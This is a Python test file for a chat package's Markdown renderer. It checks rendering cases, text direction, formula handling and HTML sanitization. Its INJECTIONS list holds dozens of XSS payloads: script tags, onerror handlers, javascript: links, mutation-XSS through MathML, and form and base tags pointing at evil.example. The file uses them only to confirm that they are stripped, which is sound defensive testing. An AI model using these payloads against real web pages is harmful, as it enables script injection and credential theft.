"""What a text in Markdown looks like as a page, case by case, and what never gets into one."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chatxblock.errors import Message
from chatxblock.rendering import page, render
from chatxblock.rendering.cleaning import ATTRIBUTES, MATH, TEXT, cleaned

CASES = json.loads((Path(__file__).parent / "rendering_cases.json").read_text(encoding="utf-8"))
"""What another renderer, in a browser, has to agree with."""
LIBRARIES = ("latex2mathml", "markdown_it", "mdit_py_plugins", "nh3", "pygments")
ALLOWED = {*TEXT.split(), *MATH.split()}
BLOCKS = {"blockquote", "h3", "h4", "h5", "h6", "li", "ol", "p", "table", "td", "th", "ul"}

INJECTIONS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><maction actiontype='statusline' href='javascript:alert(1)'>x</maction></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><b>",
    "</code></pre><script>alert(1)</script>",
    "</title></textarea></style><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "x' style='position:fixed;inset:0'",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "\u0001javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "https://x.example/\"onmouseover=alert(1)",
    "\\<script>alert(1)\\</script>",
    "\u202e<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{constructor.constructor('alert(1)')()}}",
    "\\href{javascript:alert(1)}{x}",
    "\\text{<img src=x onerror=alert(1)>}",
    "\\style{position:fixed}{x}",
    "\\class{evil}{x}",
    "\\color{red;position:fixed}{x}",
    "\\color{\"><script>alert(1)</script>}x",
    "\\begin{array}{c\"onload=alert(1)}x\\end{array}",
    "\\hspace{9999em}",
    "\\verb|<script>alert(1)</script>|",
]  # fmt: skip

FIELDS = {
    "text": "{}",
    "heading": "# {}",
    "list": "- {}",
    "quote": "> {}",
    "link's words": "[{}](https://example.org)",
    "link": "[x]({})",
    "link in brackets": "[x](<{}>)",
    "link's title": '[x](https://example.org "{}")',
    "autolink": "<{}>",
    "reference": "[x]\n\n[x]: {}",
    "picture": "![{}](https://example.org/a.png)",
    "picture's address": "![x]({})",
    "emphasis": "**{}**",
    "code": "`{}`",
    "block of code": "```html\n{}\n```",
    "language": "```{}\nx\n```",
    "cell": "a|b\n-|-\n{}|{}",
    "formula": "${}$",
    "formula of its own": "$$\n{}\n$$",
    "text in a formula": "$\\text{{{}}}$",
    "formula with an error": "$\\nope {}$",
    "too deep": "> " * 30 + "{}",
}


class Tag(NamedTuple):
    name: str
    attributes: dict[str, str | None]


class Tags(HTMLParser):
    """The elements of a page, as a parser finds them that is not the one which made it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[Tag] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(Tag(tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def assert_harmless(html: str) -> None:
    for tag in Tags(html).found:
        assert tag.name in ALLOWED
        assert set(tag.attributes) <= ATTRIBUTES["*"] | ATTRIBUTES.get(tag.name, set()) | {"rel"}
        if tag.name == "a":
            assert re.match(r"https?:|mailto:", tag.attributes.get("href", "https:") or "")
            assert tag.attributes["rel"] == "nofollow noopener"
        for length in re.findall(r"(?<![\d.])(\d+)(?:\.\d+)?em", str(tag.attributes)):
            assert int(length) < 10


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["name"])
def test_a_page_is_as_the_case_says(case: dict[str, str]) -> None:
    assert render(case["markdown"]) == case["html"]
    assert_harmless(case["html"])


@pytest.mark.parametrize("field", FIELDS)
def test_nothing_gets_in_by_any_field(field: str) -> None:
    for injection in INJECTIONS:
        assert_harmless(render(FIELDS[field].replace("{}", injection).replace("{{", "{").replace("}}", "}")))


@pytest.mark.parametrize("injection", INJECTIONS)
def test_the_last_gate_alone_keeps_it_out_too(injection: str) -> None:
    assert_harmless(cleaned(f'<p>{injection}</p><a href="{injection}">x</a><math><mtext>{injection}</mtext></math>'))


def test_what_is_typed_in_a_formula_is_no_element_even_before_the_gate(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(page, "cleaned", lambda html: html)
    html = render('$\\text{<img src=x onerror=alert(1)>} \\text{&lt;b&gt;}$ <b> `</code><b>` !["><b>](https://x.org)')
    assert {tag.name for tag in Tags(html).found} == {"p", "math", "mrow", "mtext", "code", "a"}


@given(st.text(alphabet=st.one_of(st.sampled_from("$`*_[]()<>!|-#\\{}&\n \"':~^"), st.characters()), max_size=300))
@settings(max_examples=150, deadline=None)
def test_any_text_is_a_harmless_page(text: str) -> None:
    assert_harmless(render(text))


@pytest.mark.parametrize("text", ["\ud800", "a \udfff b", "\x00", "\ufffe", "\u2028", "\r\r\n"])
def test_no_character_stops_it(text: str) -> None:
    assert_harmless(render(text))


def test_each_block_finds_its_own_direction() -> None:
    html = render("# أ\n\n> ب\n\n1. ت\n\n- ث\n\nج|ح\n-|-\nخ|د\n\nA\n\n#### 中\n")
    found = [tag for tag in Tags(html).found if tag.name in BLOCKS]
    assert {tag.name for tag in found} == {"h3", "h6", "blockquote", "p", "ol", "ul", "li", "table", "th", "td"}
    assert all(tag.attributes["dir"] == "auto" for tag in found)


def test_the_reason_is_told_in_the_readers_words() -> None:
    told: list[Message] = []

    def french(message: Message) -> str:
        told.append(message)
        return 'Formule "inconnue" <ici>'

    html = render("$\\ce{H2O}$", french)
    assert told == ["Chemistry cannot be shown here."]
    assert [tag.attributes for tag in Tags(html).found if tag.name == "code"] == [
        {"class": "unrendered", "dir": "auto", "title": 'Formule "inconnue" <ici>'}
    ]


def test_lines_in_tables_are_told_of_each_cell_and_of_no_other() -> None:
    html = render("$\\begin{array}{c|c}1&2\\\\ \\hline 3&4\\end{array}$ $f'$")
    cells = [tag.attributes.get("notation") for tag in Tags(html).found if tag.name == "mtd"]
    assert cells == ["right bottom", "bottom", "right", None]
    assert '<mi notation="prime">′</mi>' in html


@pytest.mark.parametrize("latex", [r"\phantom{x}", r"\hspace{3em}", "{}", "~", r"\mathstrut", "\u200b", r"\quad\,"])
def test_a_formula_that_would_be_an_empty_place_stands_as_typed(latex: str) -> None:
    html = render(f"a ${latex}$ b")
    assert 'title="This formula shows nothing."' in html
    assert "<math" not in html


def test_a_rule_that_would_not_be_drawn_stands_as_typed() -> None:
    assert "has a command that cannot be shown" in render(r"a $\rule{1em}{2em}$ b")


def test_a_fault_of_a_library_shows_the_text_as_typed(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(*_: Any, **__: Any) -> str:
        raise KeyError("lexer")

    monkeypatch.setattr(page, "highlighted", broken)
    html = render("```python\nsecret <b>\n```")
    assert html.startswith('<pre><code class="unrendered" dir="auto" title="This text cannot be laid out.">')
    assert "secret &lt;b&gt;" in html
    assert "could not be rendered" in caplog.text
    assert "secret" not in caplog.messages[0]


def test_no_library_is_loaded_before_the_first_page() -> None:
    program = (
        "import sys, chatxblock.rendering as rendering\n"
        f"libraries = {LIBRARIES!r}\n"
        "assert not set(libraries) & set(sys.modules), sys.modules.keys()\n"
        "rendering.render('x')\n"
        "assert set(libraries) <= set(sys.modules)\n"
    )
    subprocess.run([sys.executable, "-c", program], check=True, timeout=60)
